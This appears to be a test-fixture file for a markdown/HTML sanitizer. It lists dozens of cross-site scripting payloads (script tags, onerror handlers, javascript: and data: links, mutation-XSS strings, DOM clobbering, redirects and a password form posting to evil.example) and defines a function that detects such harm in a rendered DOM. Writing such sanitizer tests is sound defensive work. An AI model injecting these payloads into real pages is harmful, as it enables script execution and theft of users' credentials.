// Texts that mean harm, and what harm in a DOM looks like. The unit test and the browser test both use them.

export const attacks: readonly string[] = [
  "<script>alert(1)</script>",
  "text <script>alert(1)</script> text",
  "<script src=https://evil.example/x.js></script>\n\nafter",
  "<img src=x onerror=alert(1)>",
  "a <img src=x onerror=alert(1)> b",
  '<img src="javascript:alert(1)">',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<a href='javascript:alert(1)'>x</a>",
  "inline <a href='JaVaScRiPt:alert(1)'>x</a>",
  "inline <a href='java\tscript:alert(1)'>x</a> <a href=' &#106;avascript:alert(1)'>y</a>",
  "inline <a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "[x](javascript:alert(1))",
  "[x](<java\nscript:alert(1)>) [y](&#106;avascript:alert(1)) [z](JAVASCRIPT:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) [z](file:///etc/passwd)",
  "![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,PHN2Zz4=)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x] and [y][x]",
  "<style>* { display: none }</style>\n\ntext",
  "<p style='position:fixed;inset:0' onclick=alert(1)>x</p>",
  "inline <b style='color:red' onmouseover=alert(1)>x</b>",
  "<iframe src='https://evil.example'></iframe>\n<object data=x></object><embed src=x>",
  "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>go</button></form>",
  "<details open ontoggle=alert(1)>x</details>",
  "<div id=root name=x class=toast>clobber</div>",
  "<a href='https://x.org' target=_self rel=opener>x</a>",
  "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'><link rel=stylesheet href=x>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
  '```"><img src=x onerror=alert(1)>\n</code><script>alert(1)</script>\n```',
  "`<img src=x onerror=alert(1)>` **<script>alert(1)</script>**",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
  "> [!NOTE]\n> <img src=x onerror=alert(1)>\n\n:::tip[<img src=x onerror=alert(1)>]\nx\n:::",
  "$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{https://evil.example/x.png}$$ $\\htmlData{a=b}{x}$",
  '[x](https://x.org "\\" onmouseover=alert(1)")',
  '<https://x.org/"onmouseover=alert(1)>',
];

/** Ids of our own begin with a prefix that no text can know. */
const ownId = /^md_r_\w+_-/;

const forbiddenElements = "script, style, iframe, object, embed, form, base, meta, link, svg a, svg script, [formaction]";

/** Everything in the DOM that could run, restyle the page, send something away, or stand in for something of the page's own. */
export function findHarm(root: Element): string[] {
  const harm: string[] = Array.from(root.querySelectorAll(forbiddenElements), (element) => element.outerHTML);
  for (const element of root.querySelectorAll("*")) {
    // Icons and formulas are drawn by our own libraries.
    if (element.closest(".katex, svg.lucide")) continue;
    for (const name of element.getAttributeNames()) {
      const value = element.getAttribute(name) ?? "";
      // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers drop these inside a scheme
      const url = value.replace(/[\s\u0000-\u0020]/g, "").toLowerCase();
      if (name.startsWith("on") || name === "style" || (name === "id" && !ownId.test(value)) || name === "srcset")
        harm.push(`${name}=${value}`);
      if (/^(?:javascript|data|vbscript|file):/.test(url)) harm.push(`${name}=${value}`);
      if (name === "src" && /^https?:/.test(url)) harm.push(`loads ${value}`);
    }
    if (
      element.localName === "a" &&
      element.getAttribute("href")?.startsWith("http") &&
      element.getAttribute("rel") !== "noopener noreferrer"
    ) {
      harm.push(element.outerHTML);
    }
  }
  return harm;
}
